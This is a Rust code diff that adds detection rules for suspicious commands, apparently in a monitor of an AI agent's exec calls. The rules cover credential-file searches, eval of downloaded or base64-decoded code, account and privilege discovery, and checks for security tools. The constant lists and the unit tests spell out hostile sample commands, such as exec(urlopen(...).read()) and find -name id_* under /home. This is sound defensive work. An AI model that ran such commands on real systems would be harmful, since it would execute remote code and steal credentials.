@@ -70,6 +70,7 @@ pub fn discovery(name: &str, argv: &[String]) -> Option<String> {
         }
         "sudo" if args().any(|a| a == "-l" || a == "--list") => Some("sudo_list".into()),
         "crontab" if args().any(|a| a == "-l") => Some("crontab_list".into()),
+        _ if args().any(|a| a == "/etc/passwd" || a == "/etc/group") => Some("account_file".into()),
         n if DISCOVERY_PROGRAMS.contains(&n) => Some(n.to_owned()),
         _ => None,
     }
@@ -92,6 +93,10 @@ pub fn is_dynamic_loader(name: &str) -> bool {
 /// the exec is the loader run directly.
 pub fn loader_program(name: &str, argv: &[String]) -> Option<String> {
     if !is_dynamic_loader(name) {
+        return None;
+    }
+    // `ld.so --list`/`--verify` (what `ldd` asks) inspects a program without running it.
+    if argv.iter().any(|a| a == "--list" || a == "--verify") {
         return None;
     }
     // Options that take a value.
@@ -190,6 +195,238 @@ fn family(name: &str) -> &str {
         }
     }
     name
+}
+
+/// Whether a shell or interpreter takes its program from standard input: a bare `sh`,
+/// `bash -s`, `python3` or `python3 -`, `perl`, `node` with no script and no inline code.
+/// `python3 -m json.tool` or `python3 -c '…'` reading data on stdin do not.
+pub fn program_from_stdin(name: &str, argv: &[String], h: &Heuristics) -> bool {
+    let shell = name_in(name, &h.shell_names);
+    let interpreter = shell || name_in(name, &h.interpreter_names) || family(name) != name;
+    if !interpreter {
+        return false;
+    }
+    let options = || {
+        argv.iter()
+            .skip(1)
+            .take_while(|a| a.starts_with('-') || a.starts_with('+'))
+    };
+    if family(name) == "python" && argv.iter().skip(1).any(|a| a == "-") {
+        return true;
+    }
+    if is_inline_code(name, argv) || options().any(|a| a == "-m") {
+        return false;
+    }
+    if shell {
+        if options().any(|a| a == "-s") {
+            return true;
+        }
+        // `-c`, alone or combined (`-ec`, `-lc`): the program is the next argument.
+        if options().any(|a| !a.starts_with("--") && a[1..].contains('c')) {
+            return false;
+        }
+    }
+    script_argument(name, argv, h).is_none()
+}
+
+/// Calls that evaluate text as code, in inline interpreter code (lower case).
+const EVALUATORS: &[&str] = &["exec(", "eval(", "compile(", "function(", "eval ", "eval{"];
+
+/// Sources of code built at run time: downloads and decoders (lower case).
+const CODE_SOURCES: &[&str] = &[
+    "urlopen",
+    "urllib",
+    "requests.",
+    "http.client",
+    "httpx",
+    "socket",
+    "b64decode",
+    "base64",
+    "a85decode",
+    "b32decode",
+    "fromhex",
+    "unhexlify",
+    "zlib",
+    "gzip.decompress",
+    "marshal",
+    "codecs.decode",
+    "rot13",
+    "pickle.loads",
+    "lwp::",
+    "io::socket",
+    "http.get",
+    "https.get",
+    "fetch(",
+    "buffer.from",
+    "atob(",
+    "unpack(",
+    "net::http",
+    "open-uri",
+];
+
+/// Whether an exec runs inline interpreter code that evaluates data built at run time from a
+/// download or a decoder (`python3 -c "exec(urlopen(…).read())"`, `exec(b64decode(…))`,
+/// `perl -e 'eval(decode_base64(…))'`, `node -e "eval(Buffer.from(…))"`): the code that runs
+/// is not on the command line (ATT&CK T1027, T1140, T1059.006).
+pub fn inline_evaluates_data(name: &str, argv: &[String]) -> bool {
+    if !is_inline_code(name, argv) {
+        return false;
+    }
+    let code = argv
+        .iter()
+        .skip(1)
+        .map(|a| a.to_ascii_lowercase())
+        .collect::<Vec<_>>()
+        .join(" ");
+    EVALUATORS.iter().any(|e| code.contains(e)) && CODE_SOURCES.iter().any(|s| code.contains(s))
+}
+
+/// Markers of credential files in a search pattern (lower case).
+const CREDENTIAL_NAMES: &[&str] = &[
+    "id_rsa",
+    "id_dsa",
+    "id_ecdsa",
+    "id_ed25519",
+    "id_*",
+    ".pem",
+    ".key",
+    ".kdbx",
+    ".ppk",
+    ".p12",
+    ".pfx",
+    ".keystore",
+    "credentials",
+    ".env",
+    ".netrc",
+    ".pgpass",
+    ".git-credentials",
+    "wallet",
+    "shadow",
+    "passw",
+    "secret",
+    "token",
+    "kubeconfig",
+];
+
+/// Whether an exec searches the file system for credential files by name (`find … -name
+/// 'id_*'`, `find … -name .env`, `locate '*.pem'`; ATT&CK T1552.001, T1552.004, T1083).
+pub fn credential_search(name: &str, argv: &[String]) -> bool {
+    let is_credential = |a: &str| {
+        let a = a.to_ascii_lowercase();
+        CREDENTIAL_NAMES.iter().any(|m| a.contains(m))
+    };
+    match name {
+        "find" => argv.windows(2).any(|w| {
+            matches!(
+                w[0].as_str(),
+                "-name" | "-iname" | "-path" | "-ipath" | "-wholename" | "-regex" | "-iregex"
+            ) && is_credential(&w[1])
+        }),
+        "locate" | "mlocate" | "plocate" => argv
+            .iter()
+            .skip(1)
+            .filter(|a| !a.starts_with('-'))
+            .any(|a| is_credential(a)),
+        _ => false,
+    }
+}
+
+/// Discovery items about accounts and identities (ATT&CK T1087, T1033, T1069): who the
+/// agent is, who else exists, who logged in.
+pub fn is_account_discovery(item: &str) -> bool {
+    matches!(
+        item,
+        "whoami"
+            | "id"
+            | "groups"
+            | "users"
+            | "who"
+            | "w"
+            | "last"
+            | "lastlog"
+            | "getent"
+            | "finger"
+            | "account_file"
+    )
+}
+
+/// Discovery items that look for a way to more privilege (ATT&CK T1548.001, T1548.003):
+/// set-uid files, file capabilities, what `sudo` allows.
+pub fn is_privilege_discovery(item: &str) -> bool {
+    matches!(item, "find_suid" | "getcap" | "capsh" | "sudo_list")
+}
+
+/// Security products whose presence an attacker checks for (ATT&CK T1518.001).
+const SECURITY_PRODUCTS: &[&str] = &[
+    "falco",
+    "auditd",
+    "auditctl",
+    "auditbeat",
+    "osquery",
+    "osqueryd",
+    "wazuh",
+    "ossec",
+    "tetragon",
+    "sysdig",
+    "tracee",
+    "crowdstrike",
+    "falcon",
+    "sentinelone",
+    "sentinelagent",
+    "clamav",
+    "clamd",
+    "aide",
+    "tripwire",
+    "carbonblack",
+    "cbagentd",
+    "elastic-agent",
+    "apparmor",
+    "selinux",
+    "rkhunter",
+    "chkrootkit",
+    "snort",
+    "suricata",
+    "zeek",
+];
+
+/// The security products an exec's command line names (whole words, case-insensitive).
+pub fn security_products(argv: &[String]) -> impl Iterator<Item = &'static str> + '_ {
+    argv.iter().skip(1).flat_map(|a| {
+        a.split(|c: char| !(c.is_ascii_alphanumeric() || c == '-'))
+            .filter_map(|w| {
+                let w = w.to_ascii_lowercase();
+                SECURITY_PRODUCTS.iter().copied().find(|p| *p == w)
+            })
+            .collect::<Vec<_>>()
+    })
+}
+
+/// Whether an exec sets a set-uid or set-gid bit (`chmod 4755 f`, `chmod u+s f`, `install -m
+/// 4755`; ATT&CK T1548.001).
+pub fn sets_setid_mode(name: &str, argv: &[String]) -> bool {
+    let setid = |m: &str| {
+        let symbolic = m.contains("+s") || m.contains("=s") || m.contains("+xs");
+        let numeric = m.len() == 4
+            && m.bytes().all(|b| b.is_ascii_digit())
+            && matches!(m.as_bytes()[0], b'2' | b'4' | b'6');
+        symbolic || numeric
+    };
+    match name {
+        // The mode is the first operand (`chmod -R u+s dir`).
+        "chmod" => argv
+            .iter()
+            .skip(1)
+            .find(|a| !a.starts_with('-'))
+            .is_some_and(|m| setid(m)),
+        "install" => {
+            argv.windows(2)
+                .any(|w| (w[0] == "-m" || w[0] == "--mode") && setid(&w[1]))
+                || argv
+                    .iter()
+                    .any(|a| a.strip_prefix("--mode=").is_some_and(setid))
+        }
+        _ => false,
+    }
 }
 
 /// Shell and REPL history files.
@@ -356,5 +593,114 @@ mod tests {
         assert!(!tampers_with_history("cp", &argv(&["cp", h, "/tmp/x"])));
         assert!(!tampers_with_history("cat", &argv(&["cat", h])));
         assert!(!tampers_with_history("rm", &argv(&["rm", "/tmp/x"])));
+    }
+
+    #[test]
+    fn program_from_stdin_is_a_bare_shell_or_interpreter_not_one_reading_data() {
+        let h = Heuristics::default();
+        let yes = |a: &[&str]| program_from_stdin(a[0], &argv(a), &h);
+        assert!(yes(&["sh"]));
+        assert!(yes(&["bash", "-s", "--", "x"]));
+        assert!(yes(&["python3"]));
+        assert!(yes(&["python3", "-"]));
+        assert!(yes(&["perl"]));
+        assert!(!yes(&["sh", "-c", "id"]));
+        assert!(!yes(&["bash", "-ec", "id"]));
+        assert!(!yes(&["sh", "x.sh"]));
+        assert!(!yes(&["python3", "-m", "json.tool"]));
+        assert!(!yes(&["python3", "-c", "import sys; sys.stdin.read()"]));
+        assert!(!yes(&["python3", "parse.py"]));
+        assert!(!yes(&["jq", "."]));
+    }
+
+    #[test]
+    fn credential_searches_by_name() {
+        let yes = |a: &[&str]| credential_search(a[0], &argv(a));
+        assert!(yes(&["find", "/home", "-name", "id_*"]));
+        assert!(yes(&["find", ".", "-iname", "*.PEM"]));
+        assert!(yes(&["find", "/srv", "-maxdepth", "5", "-name", ".env"]));
+        assert!(yes(&["locate", "credentials"]));
+        assert!(!yes(&["find", "/var/log", "-name", "*.log"]));
+        assert!(!yes(&["find", ".", "-type", "f"]));
+        assert!(!yes(&["grep", "-r", "token", "."]));
+    }
+
+    #[test]
+    fn security_products_are_whole_words() {
+        let names: Vec<&str> =
+            security_products(&argv(&["grep", "-Ei", "casa|falco|auditd|osquery"])).collect();
+        assert_eq!(names, ["falco", "auditd", "osquery"]);
+        assert_eq!(
+            security_products(&argv(&["ls", "/var/lib/falconry", "aides"])).count(),
+            0
+        );
+    }
+
+    #[test]
+    fn setid_modes() {
+        let yes = |a: &[&str]| sets_setid_mode(a[0], &argv(a));
+        assert!(yes(&["chmod", "4755", "x"]));
+        assert!(yes(&["chmod", "u+s", "x"]));
+        assert!(yes(&["chmod", "-R", "g+s", "d"]));
+        assert!(yes(&["install", "-m", "6755", "a", "b"]));
+        assert!(!yes(&["chmod", "755", "x"]));
+        assert!(!yes(&["chmod", "+x", "x"]));
+        assert!(!yes(&["chmod", "0644", "x"]));
+    }
+
+    #[test]
+    fn inline_code_that_evaluates_fetched_or_decoded_data() {
+        let yes = |a: &[&str]| inline_evaluates_data(a[0], &argv(a));
+        assert!(yes(&[
+            "python3",
+            "-c",
+            "import urllib.request as u; exec(u.urlopen('http://h/x').read())"
+        ]));
+        assert!(yes(&[
+            "python3",
+            "-c",
+            "exec(__import__('base64').b64decode('aW1w'))"
+        ]));
+        assert!(yes(&[
+            "node",
+            "-e",
+            "eval(Buffer.from('Y29u','base64').toString())"
+        ]));
+        assert!(!yes(&[
+            "python3",
+            "-c",
+            "import statistics; print(statistics.mean([1, 2]))"
+        ]));
+        assert!(!yes(&[
+            "python3",
+            "-c",
+            "import json,urllib.request as u; print(json.load(u.urlopen('http://h')))"
+        ]));
+        // A script's own text is not inline code.
+        assert!(!yes(&["python3", "x.py", "exec(b64decode(a))"]));
+    }
+
+    #[test]
+    fn account_and_privilege_discovery() {
+        assert_eq!(
+            discovery("cut", &argv(&["cut", "-d:", "-f1", "/etc/passwd"])).as_deref(),
+            Some("account_file")
+        );
+        assert!(is_account_discovery("getent"));
+        assert!(!is_account_discovery("uname"));
+        assert!(is_privilege_discovery("find_suid"));
+        assert!(is_privilege_discovery("getcap"));
+        assert!(!is_privilege_discovery("ps"));
+    }
+
+    #[test]
+    fn ldd_asks_the_loader_to_list_not_to_run() {
+        assert_eq!(
+            loader_program(
+                "ld-linux-x86-64.so.2",
+                &argv(&["ld-linux-x86-64.so.2", "--list", "./x"])
+            ),
+            None
+        );
     }
 }
